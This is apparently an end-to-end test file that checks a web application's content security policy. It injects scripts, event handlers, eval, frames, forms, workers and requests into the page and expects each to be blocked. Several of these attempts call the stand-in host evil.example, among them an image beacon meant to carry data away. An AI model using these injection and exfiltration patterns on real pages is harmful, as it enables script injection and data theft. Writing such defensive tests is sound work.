import { expect, test, unlock } from '../../e2e/fixtures.ts';

/** What a page may try that runs somebody else's script in it, by the directive that stops it. */
const ATTEMPTS = [
  {
    what: 'an inline script',
    directive: 'script-src-elem',
    attempt: () => {
      const script = document.createElement('script');
      script.textContent = 'window.wasRun = true';
      document.head.append(script);
    },
  },
  {
    what: 'an event handler in the markup',
    directive: 'script-src-attr',
    attempt: () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.wasRun = true');
      document.body.append(button);
      button.click();
    },
  },
  {
    what: 'evaluated text',
    directive: 'script-src',
    attempt: () => {
      // Later, and so by the page itself: what the test evaluates is not subject to the policy.
      setTimeout(() => {
        const evaluate: unknown = Reflect.get(window, 'eval');
        if (typeof evaluate === 'function') evaluate('window.wasRun = true');
      });
    },
  },
  {
    what: 'a script from elsewhere',
    directive: 'script-src-elem',
    attempt: () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.head.append(script);
    },
  },
  {
    what: 'a request',
    directive: 'connect-src',
    attempt: () => {
      void fetch('https://evil.example/').catch(() => {});
    },
  },
  {
    what: 'a request to the application itself',
    directive: 'connect-src',
    attempt: () => {
      void fetch('./index.html').catch(() => {});
    },
  },
  {
    what: 'a frame',
    directive: 'frame-src',
    attempt: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  },
  {
    what: 'a picture from elsewhere, which would carry away what is in its address',
    directive: 'img-src',
    attempt: () => {
      new Image().src = 'https://evil.example/?stolen';
    },
  },
  {
    what: 'a style sheet in the page',
    directive: 'style-src-elem',
    attempt: () => {
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
    },
  },
  {
    what: 'a worker',
    directive: 'worker-src',
    attempt: () => {
      try {
        void new Worker(URL.createObjectURL(new Blob([''])));
      } catch {
        // Refused at once, or by an event later.
      }
    },
  },
  {
    what: 'an embedded object',
    directive: 'object-src',
    attempt: () => {
      const object = document.createElement('object');
      object.data = 'https://evil.example/x';
      document.body.append(object);
    },
  },
  {
    what: 'another base for all addresses',
    directive: 'base-uri',
    attempt: () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
    },
  },
  {
    what: 'a form that is sent away',
    directive: 'form-action',
    attempt: () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    },
  },
] as const;

test.describe('row 7: the content security policy', () => {
  test('blocks whatever would bring in or run what is not the application', async ({ page }) => {
    for (const { what, directive, attempt } of ATTEMPTS) {
      const blocked = page.evaluate(
        async () =>
          await new Promise<string>((resolve) => {
            setTimeout(() => resolve('nothing is blocked'), 5_000);
            document.addEventListener(
              'securitypolicyviolation',
              ({ effectiveDirective, disposition }) => resolve(`${disposition} ${effectiveDirective}`),
              { once: true },
            );
          }),
      );
      await page.evaluate(attempt);
      expect(await blocked, what).toBe(`enforce ${directive}`);
    }
    expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
  });

  test.describe('with a vault', () => {
    test.use({ vault: 'caseload' });

    test('blocks nothing that the application itself does', async ({ app }) => {
      await app.page.addInitScript(() => {
        const violations: string[] = [];
        Reflect.set(window, 'violations', violations);
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          violations.push(effectiveDirective),
        );
      });
      await unlock(app.page);
      await expect(app.page.getByRole('main').getByRole('heading').first()).toBeVisible();
      expect(await app.page.evaluate(() => Reflect.get(window, 'violations') as unknown)).toEqual([]);
    });
  });
});
